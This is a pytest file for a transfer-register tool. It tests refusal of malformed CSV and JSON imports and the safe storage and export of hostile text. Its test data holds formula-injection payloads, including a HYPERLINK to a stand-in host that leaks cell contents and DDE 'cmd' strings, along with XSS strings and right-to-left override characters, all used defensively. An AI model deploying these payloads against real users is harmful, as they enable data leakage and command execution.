"""The bad-input set (tests/data/bad/README.md): each bad file gets a clear message and changes nothing;
hostile free text is stored and exported exactly (neutralised only where a spreadsheet formula starts).

Known defects in other modules are marked xfail(strict=True) with the reason, so a fix shows up as an
unexpected pass and the mark is removed then.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import String, select

from tests import factories
from tests.conftest import _truncate_pg
from transfer_tool.accounts.permissions import Actor
from transfer_tool.countries import store
from transfer_tool.domain import Role
from transfer_tool.errors import ImportRefused, ValidationError
from transfer_tool.records import audit
from transfer_tool.register import entities, register_import, register_search, transfer_csv, transfers
from transfer_tool.register.csv_safety import neutralise
from transfer_tool.register.register_columns import COLUMNS
from transfer_tool.storage.database import Database
from transfer_tool.storage.models.core import AuditEvent, Entity, Transfer

BAD = Path(__file__).resolve().parents[1] / "data" / "bad"
FIFTY_MB = 50 * 1024 * 1024


def _bad(name: str) -> bytes:
    return (BAD / name).read_bytes()


# ---- CSV transfer import --------------------------------------------------------------------------


def _register(db: Database) -> tuple[str, int, int]:
    """What an import could change: the register as exported, the entities, the audit log."""
    return (
        transfer_csv.export_csv(db, Actor.system()),
        len(entities.list_entities(db)),
        audit.verify(db).checked,
    )


CSV_REFUSED = [
    ("csv/latin1.csv", ["not UTF-8", "CSV UTF-8"]),
    ("csv/utf16.csv", ["not UTF-8", "CSV UTF-8"]),
    ("csv/spreadsheet.xlsx.csv", ["not UTF-8"]),
    pytest.param(
        "csv/truncated-mid-quote.csv",
        ["cannot be read"],
    ),
    ("csv/volume-many.csv", ["Nothing was imported", "line 3, column volume: 'many' is not a whole number"]),
    ("csv/duplicate-references.csv", ["line 4, column reference: 'DUP-1' is also in line 2"]),
    (
        "csv/unknown-country-codes.csv",
        [
            "line 2, column importer_country: 'UK' is not a known country code",
            "line 2, column destination: 'UK' is not a known country code",
            "line 3, column exporter_country: 'EU' is not a known country code",
            "line 4, column destination: 'ZZ' is not a known country code",
        ],
    ),
    (
        "csv/unknown-columns.csv",
        ["columns the tool does not know", "unknown column 'colour'", "unknown column 'Risk score'"],
    ),
    (
        "csv/wrong-enum.csv",
        ["column frequency: 'sometimes' is not one of", "column format_at_rest: 'zipped' is not one of"],
    ),
    ("csv/too-many-cells.csv", ["more cells than the header", "line 2"]),
    ("csv/header-only.csv", ["header but no transfers"]),
    ("csv/empty.csv", ["lacks required columns", "missing column 'exporter'"]),
    (
        "csv/missing-values.csv",
        ["line 2, column exporter: fill in this required column", "line 2, column retention: fill in"],
    ),
    ("csv/negative-volume.csv", ["Nothing was imported", "line 3", "cannot be negative"]),
]


@pytest.mark.parametrize(("name", "words"), CSV_REFUSED)
def test_bad_csv_is_refused_clearly_and_changes_nothing(
    db: Database, legal: Actor, name: str, words: list[str]
) -> None:
    factories.transfer(db, legal)  # something to keep
    before = _register(db)
    with pytest.raises(ImportRefused) as err:
        register_import.import_csv(db, legal, _bad(name))
    message = err.value.details()
    for w in words:
        assert w in message
    assert _register(db) == before


def test_a_reference_already_in_the_register_is_refused(db: Database, legal: Actor) -> None:
    register_import.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
    before = _register(db)
    with pytest.raises(ImportRefused) as err:
        register_import.import_csv(db, legal, _bad("csv/volume-many.csv").replace(b",many\n", b",7\n"))
    assert "'VOL-1' is already used" in err.value.details()
    assert _register(db) == before


def test_a_50_mb_csv_is_refused_by_size(db: Database, legal: Actor) -> None:
    header, row = _bad("csv/volume-many.csv").split(b"\n")[:2]
    body = bytearray(header + b"\n")
    n = 0
    while len(body) <= FIFTY_MB:
        body += row.replace(b"VOL-1", f"BIG-{n}".encode()) + b"\n"
        n += 1
    before = _register(db)
    with pytest.raises(ImportRefused) as err:
        register_import.import_csv(db, legal, bytes(body))
    assert "The file is 50 MB; the limit is 20 MB" in str(err.value)
    assert "Split it" in str(err.value)
    assert _register(db) == before


def test_a_utf8_byte_order_mark_is_accepted(db: Database, legal: Actor) -> None:
    """Excel's 'CSV UTF-8' starts with a BOM: accepted, and the first column name is read correctly."""
    assert register_import.import_csv(db, legal, _bad("csv/bom-utf8.csv")).created == 1
    (row,) = register_search.search(db)
    assert row.reference == "BOM-1"
    assert row.title == "Payroll 給与"


def test_formula_cells_are_imported_as_text_and_exported_neutralised(db: Database, legal: Actor) -> None:
    assert register_import.import_csv(db, legal, _bad("csv/formula-injection.csv")).created == 1
    t = transfers.get_transfer(db, register_search.search_ids(db)[0])
    cells = {
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        "exporter": "@SUM(1+1)*cmd|' /C calc'!A0",
        "importer": "+1+cmd|' /C notepad'!A0",
        "recipient_type": "-2+3",
        "retention": "=1+1",
    }
    stored = {
        "title": t.title,
        "exporter": t.exporter_name,
        "importer": t.importer_name,
        "recipient_type": t.recipient_type,
        "retention": t.retention,
    }
    assert stored == cells  # kept exactly as typed: text, never evaluated
    (exported,) = csv.DictReader(io.StringIO(transfer_csv.export_csv(db, legal)))
    for column, value in cells.items():
        assert exported[column] == "'" + value  # a spreadsheet shows it as text


# ---- country-data JSON import -----------------------------------------------------------------------


def _countries(db: Database) -> tuple[bytes, int]:
    return store.export_document(db), audit.verify(db).checked


JSON_REFUSED = [
    ("countries/not-json.json", ["nothing was imported", "line 1, column 1: not valid JSON"]),
    ("countries/truncated.json", ["not valid JSON"]),
    ("countries/utf16.json", ["the file is UTF-16; save it as UTF-8"]),
    ("countries/duplicate-keys.json", ["the key 'status' appears twice in one object"]),
    (
        "countries/wrong-types.json",
        [
            "destinations[US].version: expected integer, got str '2'",
            "destinations[US].regimes.EU.verified: expected boolean, got str 'yes'",
            "destinations[US].regimes.EU.adopted",
        ],
    ),
    (
        "countries/unknown-codes.json",
        ["destinations[UK].code: unknown destination code 'UK'", "unknown destination code 'QQ'"],
    ),
    ("countries/unknown-regime.json", ["destinations[US].regimes.GDPR: unknown regime 'GDPR'"]),
    (
        "countries/wrong-date-form.json",
        [
            "regimes.EU.adopted: expected a date YYYY-MM-DD, got '10/07/2023'",
            "regimes.EU.last_verified: not a real calendar date: '2023-02-30'",
        ],
    ),
    ("countries/unknown-fields.json", ["unknown field(s)", "'risk'", "'adequate'"]),
    ("countries/nan.json", ["NaN is not allowed in JSON"]),
]


@pytest.mark.parametrize(("name", "words"), JSON_REFUSED)
def test_bad_country_data_is_refused_clearly_and_changes_nothing(
    db: Database, admin: Actor, name: str, words: list[str]
) -> None:
    before = _countries(db)
    with pytest.raises(ImportRefused) as err:
        store.import_document(db, admin, _bad(name))
    message = err.value.details()
    for w in words:
        assert w in message
    assert _countries(db) == before


def test_a_50_mb_country_file_is_refused_by_size(db: Database, admin: Actor) -> None:
    doc = _bad("countries/bom-utf8.json")[3:]
    raw = doc + b" " * (FIFTY_MB - len(doc) + 1)  # valid JSON, one change, padded past 50 MB
    before = _countries(db)
    with pytest.raises(ImportRefused) as err:
        store.import_document(db, admin, raw)
    assert "The country data file is 50 MB; the limit is 10 MB" in str(err.value)
    assert "nothing was imported" in str(err.value)
    assert _countries(db) == before


def test_a_country_file_with_a_byte_order_mark_is_accepted(db: Database, admin: Actor) -> None:
    preview = store.import_document(db, admin, _bad("countries/bom-utf8.json"))
    assert preview.applied and preview.changed_destinations == ["US"]
    assert (
        store.get_destination(db, "US").regimes["EU"].notes == "Imported from a file with a byte-order mark"
    )
    assert store.dataset_version(db) == "bom-1"


# ---- hostile free text ------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert('transfer')</script>",
    "img": "<img src=/etc/passwd onerror=alert(1)>",
    "font": "<font size=60>LOUD</font>",
    "ampersand": "Smith & Sons &amp; Co &lt;b&gt; & 1 < 2 > 0",
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "long": ("Personal data 個人データ; " * 1000)[:20_000],
    "emoji": "🔐 encrypted 📄 report 👩🏽‍⚖️ reviewer 🇯🇵→🇺🇸",
    "arabic": "نقل البيانات الشخصية إلى الخارج",
    "rtl_marks": "\u202eexe.transfer\u202c \u200fright-to-left\u200e \u2067isolate\u2069",
    "nul": "before\x00after",
}
assert len(HOSTILE["long"]) == 20_000

ENTITY_FIELDS = ["name", "address", "contact_name", "contact_position", "registration_no", "activities"]
TRANSFER_FIELDS = [
    "title",
    "recipient_type",
    "sensitive_details",
    "retention",
    "retention_code",
    "nature_of_processing",
    "notes",
]
# Transfer CSV columns that carry a free-text field, and where the value comes from.
EXPORT_COLUMNS = {"title": "title", "recipient_type": "recipient_type", "retention": "retention"}


def _limit(model: type[Entity] | type[Transfer], field: str) -> int | None:
    if model is Transfer and field in ("retention", "sensitive_details", "nature_of_processing", "notes"):
        return COLUMNS[field].limit  # what the register file takes back, so an export imports again
    column_type = model.__table__.c[field].type
    return column_type.length if isinstance(column_type, String) else None


def _must_refuse(model: type[Entity] | type[Transfer], field: str, value: str) -> bool:
    limit = _limit(model, field)
    return limit is not None and len(value) > limit


@pytest.fixture
def text_db(db_url: str, backend: str) -> Iterator[Database]:
    """An empty register without country data (these cases need none): emptying PostgreSQL without
    re-seeding it keeps the 130 cases per backend quicker."""
    database = Database(db_url)
    if backend == "postgres":
        _truncate_pg(database)
    yield database
    database.dispose()


@pytest.fixture
def assessor() -> Actor:
    # Roles are enforced on the Actor alone; skipping account creation keeps 260 cases fast (no argon2).
    return Actor(user_id=None, username="lena", role=Role.LEGAL, display_name="Lena Legal")


def _exported(db: Database, actor: Actor, reference: str) -> dict[str, str]:
    rows = [r for r in csv.DictReader(io.StringIO(transfer_csv.export_csv(db, actor)))]
    return next(r for r in rows if r["reference"] == reference)


@pytest.mark.parametrize("field", ENTITY_FIELDS)
@pytest.mark.parametrize("key", list(HOSTILE))
def test_hostile_text_in_an_entity_round_trips_or_is_refused_by_field(
    text_db: Database, assessor: Actor, key: str, field: str
) -> None:
    db, legal = text_db, assessor
    value = HOSTILE[key]
    typed: dict[str, Any] = {field: value}  # the one text field under test
    data = replace(entities.EntityInput(name="Helpdesk Inc.", country="US"), **typed)
    exporter = factories.entity(db, legal)
    before = len(entities.list_entities(db))
    try:
        saved = entities.create_entity(db, legal, data)
    except ValidationError as exc:
        assert _must_refuse(Entity, field, value) or key == "nul", f"refused: {exc.details()}"
        assert [p.location for p in exc.problems] == [field]
        assert len(entities.list_entities(db)) == before
        return
    assert not _must_refuse(Entity, field, value), f"{field} accepted {len(value)} characters"
    assert getattr(entities.get_entity(db, saved.id), field) == value
    assert audit.verify(db).ok
    if field == "name":  # the entity name reaches the CSV as the importer column
        t = transfers.create_transfer(db, legal, factories.transfer_input(exporter.id, saved.id, "US"))
        assert _exported(db, legal, t.reference)["importer"] == neutralise(value)


@pytest.mark.parametrize("field", TRANSFER_FIELDS)
@pytest.mark.parametrize("key", list(HOSTILE))
def test_hostile_text_in_a_transfer_round_trips_or_is_refused_by_field(
    text_db: Database, assessor: Actor, key: str, field: str
) -> None:
    db, legal = text_db, assessor
    value = HOSTILE[key]
    exporter = factories.entity(db, legal)
    importer = factories.entity(db, legal, "Helpdesk Inc.", "US")
    typed: dict[str, Any] = {field: value}  # the one text field under test
    data = replace(factories.transfer_input(exporter.id, importer.id, "US"), **typed)
    before = register_search.search_ids(db)
    try:
        saved = transfers.create_transfer(db, legal, data)
    except ValidationError as exc:
        assert _must_refuse(Transfer, field, value) or key == "nul", f"refused: {exc.details()}"
        assert [p.location for p in exc.problems] == [field]
        assert register_search.search_ids(db) == before
        return
    assert not _must_refuse(Transfer, field, value), f"{field} accepted {len(value)} characters"
    assert getattr(transfers.get_transfer(db, saved.id), field) == value
    assert audit.verify(db).ok
    if field in EXPORT_COLUMNS:
        assert _exported(db, legal, saved.reference)[EXPORT_COLUMNS[field]] == neutralise(value)


def test_hostile_text_survives_an_edit_and_the_audit_log_records_it_exactly(
    db: Database, legal: Actor
) -> None:
    t = factories.transfer(db, legal)
    everything = " | ".join(v for k, v in HOSTILE.items() if k not in ("long", "nul"))
    updated = transfers.update_transfer(
        db, legal, t.id, transfers.with_changes(t, notes=everything, retention=everything), t.row_version
    )
    assert transfers.get_transfer(db, t.id).notes == everything
    assert updated.retention == everything
    assert audit.verify(db).ok
    with db.read() as s:
        last = s.execute(select(AuditEvent).order_by(AuditEvent.seq.desc())).scalars().first()
        assert last is not None and last.action == "update"
        assert last.after["notes"] == everything and last.before["notes"] == ""
